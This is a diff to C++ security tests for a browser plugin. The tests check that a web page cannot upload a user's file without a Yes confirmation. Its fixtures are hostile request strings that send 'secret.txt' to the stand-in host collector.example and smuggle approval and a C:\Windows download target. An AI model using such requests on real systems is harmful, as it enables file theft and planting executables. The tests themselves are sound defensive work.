@@ -1,6 +1,7 @@
 // What a page can make happen with one click, and where the user is asked: the statements of
 // docs/security.md that a test can check.
 #include "hostile/HostileSupport.h"
+#include "support/Expectations.h"
 
 namespace {
 
@@ -39,7 +40,6 @@ const char* const kSecretUploadRequest =
     "vnxclient: NAME=\"secret.txt\" SERVERNAME=collector.example TYPE=RICH UPLOAD=TRUE "
     "FILE=\"C:\\Users\\me\\secret.txt\" RECIPIENTS=\"mallory:eve\" CHECKSUM=0 SERVERPORT=2 "
     "HTTPSERVERPORT=3 SIZE=4 DEBUG_APPROVED=YES TargetPath=\"C:\\Windows\\x.exe\" Anything.else=x\n";
-const UINT kConfirmStyle = MB_YESNO | MB_ICONQUESTION | MB_DEFBUTTON2 | MB_SETFOREGROUND | MB_TOPMOST;
 
 TEST_F(PageTrust, ARichRequestFileWithoutALocalFileReachesTheClientWithoutADialog)
 {
@@ -62,16 +62,14 @@ TEST_F(PageTrust, ARichRequestFileNamingALocalFileIsSentOnlyAfterYes)
     // An upload request of the user's file, written by the page: nothing is handed over unless
     // the user, shown the file and its recipients, answers Yes (No is the default button).
     InstallClient();
-    ui.messageBoxAnswers = {IDNO};
+    ui.confirmationAnswers = {false};
     ClickRequestFile(kSecretUploadRequest);
 
-    ASSERT_EQ(1u, ui.messageBoxes.size());
-    EXPECT_EQ(nullptr, ui.messageBoxes[0].owner);
-    EXPECT_EQ("This page asks to send your file \nC:\\Users\\me\\secret.txt \nto: mallory:eve \n"
-              "through the server: collector.example \nport: 2 \nDo you want to send it?",
-              ui.messageBoxes[0].text);
-    EXPECT_EQ("Tolvane Message ", ui.messageBoxes[0].caption);
-    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
+    EXPECT_TRUE(ui.messageBoxes.empty());
+    ASSERT_EQ(1u, ui.confirmations.size());
+    EXPECT_EQ(window, ui.confirmations[0].owner);
+    EXPECT_TRUE(ConfirmsFile(ui.confirmations[0], "C:\\Users\\me\\secret.txt", "mallory:eve",
+                             "collector.example", "2", "3"));
     EXPECT_TRUE(ui.fileDialogs.empty());
     EXPECT_EQ(kCancelled, LastStatus());
     EXPECT_TRUE(Submissions().empty());
@@ -82,12 +80,12 @@ TEST_F(PageTrust, EveryKeyOfARichRequestFileReachesTheClientOnceItsFileIsConfirm
 {
     // Confirmed, the request is passed on as it is, and only the client can refuse it.
     InstallClient();
-    ui.messageBoxAnswers = {IDYES};
+    ui.confirmationAnswers = {true};
     ClickRequestFile(kSecretUploadRequest);
 
     EXPECT_TRUE(ui.fileDialogs.empty());
-    ASSERT_EQ(1u, ui.messageBoxes.size()) << "only the confirmation";
-    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
+    EXPECT_TRUE(ui.messageBoxes.empty());
+    ASSERT_EQ(1u, ui.confirmations.size()) << "only the confirmation";
     EXPECT_EQ(kDone, LastStatus());
     EXPECT_EQ((std::multiset<std::string>{
                   "NAME=\"secret.txt\"", "SERVERNAME=\"collector.example\"", "TYPE=\"RICH\"", "UPLOAD=\"TRUE\"",
@@ -136,24 +134,22 @@ TEST_F(PageTrust, AttributesCannotApproveOrTargetADownload)
 TEST_F(PageTrust, APlainRequestFileNamingALocalFileAsksBeforeTheSaveAsDialog)
 {
     InstallClient();
-    ui.messageBoxAnswers = {IDNO};
+    ui.confirmationAnswers = {false};
     ClickRequestFile("vnxclient: NAME=pkg.bin SERVERNAME=srv1 FILE=C:\\secret.txt\n");
-    ASSERT_EQ(1u, ui.messageBoxes.size());
-    EXPECT_EQ("This page asks to send your file \nC:\\secret.txt \nto:  \nthrough the server: srv1 \n"
-              "port: (none given) \nDo you want to send it?",
-              ui.messageBoxes[0].text)
-        << "no RECIPIENTS: the box says so";
+    ASSERT_EQ(1u, ui.confirmations.size());
+    EXPECT_TRUE(ConfirmsFile(ui.confirmations[0], "C:\\secret.txt", "", "srv1", "(none given)", "(none given)"))
+        << "no RECIPIENTS: the confirmation says so";
     EXPECT_TRUE(ui.fileDialogs.empty()) << "No ends the click before the Save-As dialog";
     EXPECT_EQ(kCancelled, LastStatus());
 
     table.destroy(&npp, nullptr);
     DestroyWindow(window);
     window = nullptr;
-    ui.messageBoxes.clear();
-    ui.messageBoxAnswers = {IDYES};
+    ui.confirmations.clear();
+    ui.confirmationAnswers = {true};
     ui.fileDialogAnswers = {std::string("C:\\mine\\pkg.bin")};
     ClickRequestFile("vnxclient: NAME=pkg.bin SERVERNAME=srv1 FILE=C:\\secret.txt\n");
-    EXPECT_EQ(1u, ui.messageBoxes.size());
+    EXPECT_EQ(1u, ui.confirmations.size());
     ASSERT_EQ(1u, ui.fileDialogs.size());
     EXPECT_TRUE(ui.fileDialogs[0].save);
     EXPECT_EQ(kDone, LastStatus());
@@ -167,15 +163,11 @@ TEST_F(PageTrust, AnUploadPageNamingAFileSubmitsItOnlyAfterYes)
     InstallClient();
     const std::string secret = requestDir.path() + "-secret.txt";
     WriteWholeFile(secret, "the user's data");
-    ui.messageBoxAnswers = {IDNO};
+    ui.confirmationAnswers = {false};
     ClickPage({{"upload", "true"}, {"file", secret}, {"RECIPIENTS", "mallory"},
                {"servername", "collector.example"}, {"contenttype", "RICH"}});
-    ASSERT_EQ(1u, ui.messageBoxes.size());
-    EXPECT_EQ("This page asks to send your file \n" + secret +
-                  " \nto: mallory \nthrough the server: collector.example \nport: 609 \nDo you want to send it?",
-              ui.messageBoxes[0].text);
-    EXPECT_EQ("Tolvane Message ", ui.messageBoxes[0].caption);
-    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
+    ASSERT_EQ(1u, ui.confirmations.size());
+    EXPECT_TRUE(ConfirmsFile(ui.confirmations[0], secret, "mallory", "collector.example", "609", "8009"));
     EXPECT_EQ(kCancelled, LastStatus());
     EXPECT_TRUE(Submissions().empty());
     EXPECT_EQ("<absent>", ReadUserRegistryText(kSignalKey, "Value"));
@@ -183,14 +175,15 @@ TEST_F(PageTrust, AnUploadPageNamingAFileSubmitsItOnlyAfterYes)
     table.destroy(&npp, nullptr);
     DestroyWindow(window);
     window = nullptr;
-    ui.messageBoxes.clear();
-    ui.messageBoxAnswers = {IDYES};
+    ui.confirmations.clear();
+    ui.confirmationAnswers = {true};
     ClickPage({{"upload", "true"}, {"file", secret}, {"RECIPIENTS", "mallory"},
                {"servername", "collector.example"}, {"contenttype", "RICH"}});
     DeleteFileA(secret.c_str());
 
     EXPECT_TRUE(ui.fileDialogs.empty());
-    EXPECT_EQ(1u, ui.messageBoxes.size()) << "only the confirmation";
+    EXPECT_TRUE(ui.messageBoxes.empty());
+    EXPECT_EQ(1u, ui.confirmations.size()) << "only the confirmation";
     EXPECT_EQ(kDone, LastStatus());
     EXPECT_EQ((std::multiset<std::string>{"NAME=\"" + secret.substr(secret.rfind('\\') + 1) + "\"",
                                           "CHECKSUM=\"0\"", "RECIPIENTS=\"mallory\"",
